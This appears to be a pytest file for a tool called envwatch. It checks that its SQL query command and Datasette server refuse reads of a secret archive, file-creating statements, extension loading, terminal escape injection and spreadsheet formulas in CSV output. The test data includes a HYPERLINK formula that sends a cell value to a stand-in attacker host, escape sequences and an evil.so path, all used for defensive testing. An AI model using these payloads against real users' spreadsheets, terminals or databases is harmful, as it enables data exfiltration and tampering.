"""What `envwatch query`, canned queries and `envwatch serve` may touch (issue 15, items 1 and
8): the public views and the tables behind them; never the raw archive; no file created, no
extension loaded, no statement running forever."""

from __future__ import annotations

import asyncio
import os
import sqlite3
import time
from pathlib import Path
from typing import Any

import httpx
import pytest
from click.testing import CliRunner, Result
from demo import Demo, demo_copy

import envwatch.query
from envwatch.cli import main
from envwatch.errors import QueryError
from envwatch.query import load_queries, run_query
from envwatch.schema import INTERNAL, public_views
from envwatch.serve import build_datasette, read_only_app

from conftest import write_config

SECRET = "ENVWATCH_SECRET_VALUE_7f3a"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"万里学院")'


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory, demo_store: Demo) -> Demo:
    """A demo store whose raw archive holds a payload with a secret in it (as a file that
    was a link to /etc/envwatch/secrets.env would have left)."""
    copy = demo_copy(demo_store, tmp_path_factory.mktemp("access"))
    with sqlite3.connect(copy.db) as conn:
        conn.execute(
            "INSERT INTO raw_payloads (sha256, size, encoding, content, first_seen) "
            "VALUES ('x', 1, 'identity', ?, '2026-01-01T00:00:00Z')",
            (f"TOKEN={SECRET}".encode(),),
        )
        conn.execute("INSERT INTO meta (key, value) VALUES ('secret', ?)", (SECRET,))
        conn.execute("UPDATE sites SET name = ? WHERE site_id = '1235A'", (FORMULA,))
    return copy


def _query(demo: Demo, sql: str, *args: str) -> Result:
    return CliRunner().invoke(
        main, ["--config", str(demo.config), "--db", str(demo.db), "query", sql, *args]
    )


@pytest.mark.parametrize(
    "sql",
    [
        "select content from raw_payloads",
        "select count(*) from raw_payloads",
        "select 1 from raw_payloads",
        "select * from main.RAW_PAYLOADS",
        "with x as (select * from raw_payloads) select * from x",
        "select (select group_concat(content) from raw_payloads) as c from sites",
        "select * from sites where name in (select cast(content as text) from raw_payloads)",
        "select value from meta",
        "select * from run_payloads",
        "select * from dbstat",  # page statistics of every table, the archive's too
        "select * from sqlite_stmt",
    ],
)
def test_the_internal_tables_cannot_be_read(demo: Demo, sql: str) -> None:
    result = _query(demo, sql)
    assert result.exit_code == 2, result.output
    assert SECRET not in result.output and "refused" in result.output
    assert "internal to envwatch" in result.output or "not one of the store's" in result.output


def test_a_hostile_name_cannot_drive_the_terminal(demo: Demo) -> None:
    name = "\x1b]0;pwned\x07\x1b[2J龙赛医院"  # set the title, clear the screen
    result = _query(demo, f"select '{name}' as name, 1 as n")
    assert result.exit_code == 0 and "\x1b" not in result.output
    assert "\\x1b]0;pwned\\x07\\x1b[2J龙赛医院" in result.output


def test_every_public_view_and_the_tables_behind_them_still_answer(demo: Demo) -> None:
    for view in public_views():
        assert run_query(demo.db, f"select * from {view.name} limit 1") is not None
    for table in ("air_hour", "air_day", "sites", "observations", "parameters", "run_ledger"):
        run_query(demo.db, f"select count(*) from {table}")
    # the schema is no secret: staff look up columns
    cols = run_query(demo.db, "select name from pragma_table_info('raw_payloads')")
    assert "content" in cols["name"].tolist()
    assert len(run_query(demo.db, "select * from json_each('[1, 2]')")) == 2


def test_a_store_path_that_is_not_a_file_says_so(demo: Demo, tmp_path: Path) -> None:
    fifo = tmp_path / "envwatch.db"
    os.mkfifo(fifo)  # opening it would block forever
    for db in (fifo, tmp_path):
        result = CliRunner().invoke(
            main, ["--config", str(demo.config), "--db", str(db), "query", "select 1"]
        )
        assert result.exit_code == 2 and "not a file" in result.output, result.output


@pytest.mark.parametrize(
    "sql",
    [
        "ATTACH '{out}' AS x",
        "attach database '{out}' as x",
        "/* c */ ATTACH 'file:{out}?mode=rwc' AS x",
        "VACUUM INTO '{out}'",
        "vacuum main into '{out}'",
    ],
)
def test_attach_and_vacuum_into_create_no_file(demo: Demo, tmp_path: Path, sql: str) -> None:
    out = tmp_path / "copy.db"
    result = _query(demo, sql.format(out=out))
    assert result.exit_code == 2 and "would create or open another file" in result.output
    assert not out.exists()
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("sql", "says"),
    [
        ("select load_extension('/tmp/evil.so')", "load_extension() is not allowed"),
        ("pragma journal_mode = delete", "PRAGMA journal_mode = delete is not allowed"),
        ("pragma query_only = 0", "PRAGMA query_only = 0 is not allowed"),
        ("pragma wal_checkpoint(truncate)", "PRAGMA wal_checkpoint"),
        ("pragma optimize", "PRAGMA optimize is not allowed"),
        ("create temp table t (a)", "only SELECT"),
        ("create temp view v as select * from raw_payloads", "only SELECT"),
        ("begin immediate", "only SELECT"),
        ("delete from observations", "only SELECT"),
        ("analyze sites", "only SELECT"),
        ("reindex sites", "only SELECT"),
    ],
)
def test_statements_that_change_or_load_anything_are_refused(
    demo: Demo, sql: str, says: str
) -> None:
    before = demo.db.stat().st_mtime_ns
    result = _query(demo, sql)
    assert result.exit_code == 2 and says in result.output, result.output
    assert "Traceback" not in result.output
    assert demo.db.stat().st_mtime_ns == before


def test_an_endless_recursive_cte_stops_at_the_time_limit(demo: Demo) -> None:
    sql = "with recursive r(x) as (select 1 union select x + 1 from r) select max(x) from r"
    started = time.monotonic()
    result = _query(demo, sql, "--time-limit", "300")
    took = time.monotonic() - started
    assert result.exit_code == 2 and "longer than 300 ms and was stopped" in result.output
    assert took < 10


def test_a_result_too_big_for_memory_stops_with_a_message(
    demo: Demo, monkeypatch: pytest.MonkeyPatch
) -> None:
    sql = "with recursive r(x) as (select 1 union all select x + 1 from r) select x from r"
    with pytest.raises(QueryError, match="more than 5,000 rows"):
        run_query(demo.db, sql, max_rows=5_000)
    with pytest.raises(QueryError, match="at most 8 MB"):
        run_query(demo.db, "select randomblob(100000000)")
    # large values row after row: stopped by the bytes returned, not by memory running out
    monkeypatch.setattr(envwatch.query, "MAX_TEXT_BYTES", 20_000_000)
    with pytest.raises(QueryError, match="or 19 MB of text"):
        run_query(demo.db, "select printf('%.*c', 4000000, 'x') from observations")
    assert _query(demo, "select 1", "--time-limit", "0").exit_code == 2


def test_a_canned_query_cannot_read_the_archive_either(demo: Demo, tmp_path: Path) -> None:
    config = write_config(tmp_path)
    (tmp_path / "queries.yaml").write_text(
        "peek:\n  title: 看\n  sql: select cast(content as text) as c from raw_payloads\n",
        encoding="utf-8",
    )
    result = CliRunner().invoke(
        main, ["--config", str(config), "--db", str(demo.db), "query", "peek"]
    )
    assert result.exit_code == 2 and SECRET not in result.output


# -- Datasette --------------------------------------------------------------------------------


def _get(demo: Demo, paths: list[str], queries: dict[str, Any] | None = None) -> list[Any]:
    ds = build_datasette(demo.db, queries if queries is not None else load_queries())

    async def fetch() -> list[Any]:
        await ds.invoke_startup()
        return [await ds.client.get(p) for p in paths]

    return asyncio.run(fetch())


def test_serve_hands_out_no_internal_table(demo: Demo) -> None:
    paths = []
    for table in INTERNAL:
        paths += [
            f"/envwatch/{table}",
            f"/envwatch/{table}.json",
            f"/envwatch/{table}.csv",
            f"/envwatch/{table}/1.json",
            f"/envwatch/{table}/x.blob?_blob_column=content",
            f"/envwatch.json?sql=select+*+from+{table}",
            f"/envwatch.csv?sql=select+*+from+{table}",
        ]
    paths += [
        "/envwatch.db",  # the whole file
        "/envwatch.json?sql=select+cast(content+as+text)+from+raw_payloads",
        "/envwatch.json?sql=with+x+as+(select+*+from+raw_payloads)+select+*+from+x",
        "/envwatch.json?sql=select+*+from+sites+where+name+in+(select+value+from+meta)",
    ]
    responses = _get(demo, paths)
    for path, r in zip(paths, responses, strict=True):
        # Datasette streams CSV: a refused query there is an empty 200
        assert r.status_code in (400, 403) or r.text.strip() == "", (path, r.status_code)
        assert SECRET not in r.text and "TOKEN=" not in r.text, path
    listing = _get(demo, ["/envwatch.json"])[0].json()
    names = {t["name"] for t in listing["tables"]}
    assert not names & set(INTERNAL) and {"sites", "air_hour"} <= names


def test_serve_still_answers_views_tables_and_sql(demo: Demo) -> None:
    r = _get(
        demo,
        [
            "/envwatch/air_daily.json?_shape=array",
            "/envwatch/air_hour.json",
            "/envwatch.json?sql=select+count(*)+as+n+from+air_hourly",
            "/envwatch/latest_air.json?_shape=array",
        ],
    )
    assert [x.status_code for x in r] == [200, 200, 200, 200]
    assert r[2].json()["rows"][0][0] > 0


def test_a_canned_query_in_serve_cannot_read_the_archive(demo: Demo, tmp_path: Path) -> None:
    p = tmp_path / "queries.yaml"
    p.write_text(
        "peek:\n  title: 看\n  sql: select cast(content as text) as c from raw_payloads\n",
        encoding="utf-8",
    )
    r = _get(demo, ["/envwatch/peek.json", "/envwatch/peek"], load_queries(p))
    for x in r:
        assert SECRET not in x.text and x.status_code in (400, 403, 500)


def test_serve_csv_pages_carry_no_formula(demo: Demo) -> None:
    """The CSV link of every Datasette page, through the same wrapper as `envwatch serve`."""
    app = read_only_app(build_datasette(demo.db, load_queries()).app())

    async def fetch(paths: list[str]) -> list[httpx.Response]:
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1") as c:
            return [await c.get(p) for p in paths]

    csvs = asyncio.run(
        fetch(
            [
                "/envwatch/sites.csv?site_id=1235A",
                "/envwatch/sites.csv?site_id=1235A&_dl=1",
                "/envwatch.csv?sql=select+name,+-2.5+as+x+from+sites+where+site_id='1235A'",
                "/envwatch/sites.json?site_id=1235A&_shape=array",
                "/envwatch/sites.csv?_stream=1",
            ]
        )
    )
    for r in csvs[:3]:
        assert r.status_code == 200 and "'=HYPERLINK(" in r.text, r.text[:300]
        lines = r.text.splitlines()
        assert not any(cell.lstrip('"').startswith("=") for ln in lines for cell in ln.split(","))
    assert csvs[2].text.splitlines()[1].endswith(",-2.5")  # numbers stay numbers
    assert csvs[3].json()[0]["name"] == FORMULA  # JSON is data, not a spreadsheet
    assert csvs[4].status_code == 400  # whole-table CSV streaming is off: use envwatch export
